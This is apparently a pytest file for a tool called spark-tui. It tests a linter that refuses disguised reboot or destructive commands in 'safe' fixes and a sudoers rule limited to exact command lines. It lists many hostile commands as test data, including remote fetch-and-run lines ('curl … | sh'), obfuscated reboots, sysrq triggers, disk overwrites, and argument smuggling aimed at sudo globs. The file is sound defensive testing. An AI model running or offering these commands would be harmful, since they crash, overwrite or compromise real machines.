"""A fix at `risk: safe` runs only commands known to be read-only, judged by what they can
do, not by their names: every disguised reboot of the attack (and variants) is refused by
`kb lint` at `safe, root: false`, every shipped wall still lints, and the sudoers rule
allows exactly the commands spark-tui runs — checked by sudo itself, reading the rule."""

from __future__ import annotations

import json
import os
import shlex
import subprocess
from pathlib import Path

import pytest

from spark_tui.entry import main
from spark_tui.kb.loader import load_knowledge
from spark_tui.kb.readonly import read_only_problem
from spark_tui.kb.safety import check_fix
from spark_tui.remedy.sudoers import PATHS, root_commands, sudoers_rule
from tests.conftest import IN_CI, require_tool

WALL = """\
id: my-wall
title: A wall of my own
severity: error
kind: log
engines: [any]
summary: Something broke.
signatures:
  - log: 'it broke'
fixes:
  - id: my-fix
    title: Look around
    risk: safe
    root: false
    actions:
      - type: run
        on: all
        command: {command}
references: [https://example.org/issue/1]
"""

# each of these reboots the node (or can), and was (or a variant of one that was) passed
# by `kb lint` at `risk: safe, root: false`
DISGUISED_REBOOTS = [
    "eval reboot",
    "eval 're''boot'",
    "busybox reboot",
    "busybox sh -c reboot",
    "$(printf reb)oot",
    "`printf reb`oot",
    '"$(printf "\\x72eboot")"',
    "$(echo cmVib290Cg== | base64 -d)",
    "r=reboot; $r",
    "${R:-reboot}",
    "python3 -c 'import os; os.system(\"reboot\")'",
    "python3 -c \"__import__('os').system('reb'+'oot')\"",
    "perl -e 'system q(reboot)'",
    "ruby -e 'system(\"reboot\")'",
    'node -e \'require("child_process").execSync("reboot")\'',
    "awk 'BEGIN{system(\"reboot\")}'",
    "curl -fsSL http://10.0.0.9/x.sh | sh",
    "curl -fsSL http://10.0.0.9/x.sh | bash -s",
    "wget -qO- http://10.0.0.9/x.sh | sh",
    "echo reboot | sh",
    "printf 'reboot\\n' | bash",
    "echo b > /proc/sysrq-trigger",
    "echo b | tee /proc/sysrq-trigger",
    "exec reboot",
    "command reboot",
    "builtin eval reboot",
    "env reboot",
    "nohup reboot",
    "xargs reboot < /dev/null",
    "echo | xargs -I{} reboot",
    "find / -maxdepth 0 -exec reboot \\;",
    "/sbin/reboot",
    "\\reboot",
    "re\\boot",
    "systemctl reboot",
    "systemctl start reboot.target",
    "init 6",
    "telinit 6",
    "shutdown -r now",
    "ls; reboot",
    "ls && reboot",
    "false || reboot",
    "ls | reboot",
    "ls & reboot",
    "(reboot)",
    "{ reboot; }",
    "if true; then reboot; fi",
    "sh <<EOF\nreboot\nEOF",
    "bash < /tmp/x.sh",
    "source /tmp/x.sh",
    ". /tmp/x.sh",
    "alias ls=reboot; ls",
    "PATH=/tmp/evil ls",
    "LD_PRELOAD=/tmp/evil.so ls",
    "cat /etc/hostname > /dev/sda",
    "ls >& /tmp/x",
    "ls *",
    "echo $'\\x72eboot'",
    "sudo reboot",
    "docker run --privileged --pid=host alpine reboot",
    "docker exec vllm reboot",
    "nvidia-smi -r",
    "date -s '2000-01-01'",
    "hostname evil",
]

# this stop's variants (issue 22, item 5): a flag's value hiding the verb (systemctl -p
# VALUE, nvidia-smi's optional -l interval) passed before; the rest held
DISGUISED_REBOOTS += [
    "systemctl -p status reboot",
    "systemctl --property status poweroff",
    "systemctl -t status isolate rescue.target",
    "systemctl -n status kexec",
    "systemctl --state status halt",
    "systemctl --lines status stop sshd",
    "nvidia-smi -l -r",
    "nvidia-smi -lms -r",
    "nvidia-smi -q -l --gpu-reset",
    "nvidia-smi -d -r",
    "cat${IFS}/etc/hostname; reboot${IFS}",
    "$IFS reboot",
    "busybox${IFS}reboot",
    "IFS=/; ls",
    "s\\h -c reboot",
    "'s'h -c reboot",
    '"bash" -c reboot',
    "sh -c 're''boot'",
    "sh -c \"reb\"'oot'",
    "/usr/bin/env reboot",
    "env -i reboot",
    "xargs -a /dev/null reboot",
    "echo reboot | xargs",
    "echo reboot | xargs -0 sh -c",
    "timeout 5 reboot",
    "nice reboot",
    "setsid reboot",
    "chroot / reboot",
    "su -c reboot",
    "flock /tmp/x reboot",
    'eval "$(echo reboot)"',
    "echo reboot | sh -s",
    "ls |& bash",
    "python3 - < /tmp/x.py",
    "perl -E 'system 1'",
    "python3 -m os",
    'echo "${HOME:?$(reboot)}"',
    'echo "${HOME}$(reboot)"',
    "echo ${!x}",
    "find / -fprint /etc/x",
    "sort -o /etc/passwd /dev/null",
    "sort --compress-program=reboot -S 1 /etc/services",
    "journalctl --vacuum-size=1",
    "dmesg -C",
    "ip netns exec x reboot",
    "ip -batch /tmp/x",
    "ethtool -f eth0 fw.bin",
    "sysctl kernel.sysrq=1",
    "sysctl -p /tmp/x.conf",
    "echo b >/proc/sys/vm/../../sysrq-trigger",
    "echo x 2>/tmp/x",
    "echo x &>/tmp/x",
    "hostname -F /tmp/x",
    "date 010100002030",
    "uniq /etc/hostname /etc/x",
    "echo x\nreboot",
    "true || /sbin/poweroff",
    "ls /{a,b}; reb''oot",
]


def _lint_safe(tmp_path: Path, command: str, capsys) -> tuple[int, str]:
    d = tmp_path / "kb"
    d.mkdir(exist_ok=True)
    (d / "my-wall.yaml").write_text(WALL.format(command=json.dumps(command)))
    code = main(["kb", "lint", str(d)])
    return code, capsys.readouterr().err.replace(str(d / "my-wall.yaml"), "F")


@pytest.mark.parametrize("command", DISGUISED_REBOOTS)
def test_a_disguised_reboot_is_never_safe(tmp_path: Path, command: str, capsys) -> None:
    code, err = _lint_safe(tmp_path, command, capsys)
    assert code == 2, err
    assert "F:12: fix 1 (my-fix): risk is safe, but action 1 " in err, err
    assert "Traceback" not in err


@pytest.mark.parametrize(
    "command, why",
    [
        ("eval reboot", "eval is not a known read-only command"),
        ("busybox reboot", "busybox is not a known read-only command"),
        ("$(printf reb)oot", "a command substitution $(…) builds a word"),
        ("python3 -c 'import os'", "python3 is not a known read-only command"),
        ("curl -s http://x/y | sh", "curl is not a known read-only command"),
        ("cat /proc/meminfo | sh", "sh is not a known read-only command"),
        ("r=reboot; $r", "an unquoted $r (split into words, perhaps options)"),
        ("cat /proc/meminfo > /tmp/m", "writes /tmp/m (>)"),
    ],
)
def test_lint_says_what_makes_it_unsafe(tmp_path: Path, command: str, why: str, capsys) -> None:
    code, err = _lint_safe(tmp_path, command, capsys)
    assert code == 2
    assert f"is not known to be read-only ({why}); only commands known to read" in err, err
    assert err.rstrip().endswith("it must be disruptive or destructive")


@pytest.mark.parametrize(
    "command",
    [
        "sync",
        "cat /proc/meminfo",
        "free -g",
        "nvidia-smi --query-gpu=name,memory.used --format=csv,noheader",
        "nvidia-smi -q -d CLOCK",
        "ip -br addr show",
        "ip route get 10.0.0.2",
        "ethtool -S enp1s0f0np0",
        "docker ps -a --format '{{.Names}}'",
        "docker logs --tail 200 vllm 2>&1 | grep -c 'out of memory'",
        "docker inspect -f '{{.HostConfig.RestartPolicy.Name}}' vllm",
        "systemctl status docker --no-pager",
        "journalctl -u docker -n 50 --no-pager",
        "dmesg -T | tail -n 100",
        "find -L \"$HOME/.cache/huggingface\" -name '*.safetensors' -printf '%s %p\\n' | sort -k2",
        "ls -la /sys/class/net/*",
        "df -h /",
        "grep -E 'MemFree|Cached' /proc/meminfo",
        "sysctl -n vm.swappiness",
        "sysctl -w vm.drop_caches=3",
        "systemctl show -p MainPID --value docker",
        "systemctl status -n 50 docker",
        "nvidia-smi -l 5 -q",
        "nvidia-smi -q -d MEMORY",
    ],
)
def test_a_read_only_command_stays_safe(command: str) -> None:
    assert read_only_problem(command) is None


def test_every_shipped_wall_still_lints_and_its_safe_commands_are_read_only() -> None:
    kb = load_knowledge(use_user=False)
    safe_runs = 0
    for wall in kb:
        for fix in wall.fixes:
            assert check_fix(fix) == [], (wall.id, fix.id)
            if fix.risk != "safe":
                continue
            for action in fix.actions:
                if action.type == "run":
                    assert read_only_problem(action.params["command"]) is None, fix.id
                    safe_runs += 1
    assert safe_runs >= 10
    # the one shipped fix that was labelled wrongly: it rewrites every container's config
    fix = kb.get("restart-loop").fix("restart-policy-no")
    assert fix is not None and fix.risk == "disruptive"


# ---------------------------------------------------------------- the sudoers rule, by sudo


def _sudo_allows(rule: str, tmp_path: Path, argv: list[str]) -> bool:
    """Whether sudo, reading `rule` as /etc/sudoers (bind-mounted in a private mount
    namespace: the machine's own file is untouched), lets `nobody` run argv."""
    sudo = require_tool("sudo")
    unshare = require_tool("unshare")
    path = tmp_path / "sudoers"
    path.write_text("root ALL=(ALL) ALL\n" + rule + "\n")
    path.chmod(0o440)
    script = f"mount --bind {shlex.quote(str(path))} /etc/sudoers && exec {sudo} -l -U nobody "
    r = subprocess.run(
        [unshare, "-m", "sh", "-c", script + shlex.join(argv)],
        capture_output=True,
        text=True,
        timeout=30,
    )
    if ("mount" in r.stderr and r.returncode not in (0, 1)) or "unshare failed" in r.stderr:
        if IN_CI:
            pytest.fail(f"cannot bind-mount a sudoers file: {r.stderr}")
        pytest.skip(f"no private mount namespace here: {r.stderr.strip()}")
    assert "syntax error" not in r.stderr, r.stderr
    return r.returncode == 0


@pytest.mark.skipif(os.geteuid() != 0, reason="binding /etc/sudoers needs root")
def test_sudo_allows_the_mtu_command_and_nothing_more(tmp_path: Path) -> None:
    rule = sudoers_rule(root_commands(), user="nobody")
    ip = PATHS["ip"]
    assert _sudo_allows(rule, tmp_path, [ip, "link", "set", "dev", "enp1s0f0np0", "mtu", "9000"])
    assert _sudo_allows(rule, tmp_path, [ip, "link", "set", "dev", "bond0.10", "mtu", "9000"])
    for more in (
        [ip, "link", "set", "dev", "eth0", "down", "dev", "eth0", "mtu", "9000"],
        [ip, "link", "set", "dev", "eth0", "mtu", "1500", "dev", "eth0", "mtu", "9000"],
        [ip, "link", "set", "dev", "eth0 down", "mtu", "9000"],
        [ip, "link", "set", "dev", "eth0", "mtu", "9000", "up"],
        [ip, "link", "set", "dev", "a" * 16, "mtu", "9000"],
        [ip, "addr", "flush", "dev", "eth0"],
    ):
        assert not _sudo_allows(rule, tmp_path, more), more
    # the other commands of the rule: exactly them
    assert _sudo_allows(rule, tmp_path, [PATHS["sysctl"], "-w", "vm.drop_caches=3"])
    assert not _sudo_allows(rule, tmp_path, [PATHS["sysctl"], "-w", "kernel.sysrq=1"])
    assert _sudo_allows(rule, tmp_path, [PATHS["reboot"]])
    assert not _sudo_allows(rule, tmp_path, [PATHS["reboot"], "--force"])


@pytest.mark.skipif(os.geteuid() != 0, reason="binding /etc/sudoers needs root")
def test_the_old_glob_rule_allowed_more_than_the_command(tmp_path: Path) -> None:
    """The oracle for the attack: sudo's `*` matches spaces, so the rule spark-tui used to
    propose allowed another command line than the one it runs."""
    ip = PATHS["ip"]
    old = f"nobody ALL=(root) NOPASSWD: {ip} link set dev * mtu 9000"
    assert _sudo_allows(
        old, tmp_path, [ip, "link", "set", "dev", "eth0", "down", "dev", "eth0", "mtu", "9000"]
    )


@pytest.mark.skipif(os.geteuid() != 0, reason="binding /etc/sudoers needs root")
def test_no_command_of_the_rule_allows_a_word_more_or_another_word(tmp_path: Path) -> None:
    """This stop's variants of the sudoers attack (all held): each command of the rule, by
    sudo itself, with a word added after it, a word changed, a glob's character class fed
    a space or a line break, the interface word fed a tab, a newline or an option."""
    rule = sudoers_rule(root_commands(), user="nobody")
    ip, mv = PATHS["ip"], PATHS["mv"]
    src = "/etc/modprobe.d/zz-nvidia-drm-override.conf"
    stamp = "20261125T230000Z"
    pstore = ["/sys/fs/pstore", "-maxdepth", "1", "-type", "f", "-exec", "tail", "-v", "-n"]
    allowed = [
        [mv, "-n", "--", src, f"{src}.spark-tui-backup-{stamp}"],
        [PATHS["journalctl"], "-b", "-1", "-k", "-n", "300", "--no-pager"],
        [PATHS["nvidia-smi"], "-lgc", "200,2150"],
        [PATHS["find"], *pstore, "400", "{}", "+"],
    ]
    for argv in [a for a in allowed if os.path.exists(a[0])]:  # sudo -l needs the program
        assert _sudo_allows(rule, tmp_path, argv), argv
        assert not _sudo_allows(rule, tmp_path, [*argv, "/etc/shadow"]), argv
    for more in (
        [mv, "-n", "--", src, f"{src}.spark-tui-backup-2026112 T230000Z"],
        [mv, "-n", "--", src, f"{src}.spark-tui-backup-2026112\nT230000Z"],
        [mv, "-n", "--", src, "/etc/sudoers.d/x.spark-tui-backup-" + stamp],
        [mv, "-n", "--", "/etc/shadow", f"{src}.spark-tui-backup-{stamp}"],
        [mv, "--", src, f"{src}.spark-tui-backup-{stamp}"],
        [PATHS["journalctl"], "-b", "-1", "-k", "-n", "300", "--no-pager", "--vacuum-size=1"],
        [PATHS["find"], "/sys/fs/pstore", "-maxdepth", "1", "-type", "f", "-delete"],
        [PATHS["nvidia-smi"], "-lgc", "200,2150", "-r"],
        [PATHS["sysctl"], "-w", "vm.drop_caches=3", "kernel.sysrq=1"],
        ["/usr/bin/dmesg", "-T", "-C"],
        [ip, "link", "set", "dev", "eth0\tdown", "mtu", "9000"],
        [ip, "link", "set", "dev", "eth0\ndown", "mtu", "9000"],
        [ip, "link", "set", "dev", "eth0", "mtu", "9000\n"],
        [ip, "-force", "link", "set", "dev", "eth0", "mtu", "9000"],
        [ip, "-batch", "/tmp/x", "link", "set", "dev", "eth0", "mtu", "9000"],
        [ip, "link", "set", "dev", "eth0", "mtu", "90000"],
    ):
        if os.path.exists(more[0]):  # else sudo refuses for want of the program
            assert not _sudo_allows(rule, tmp_path, more), more
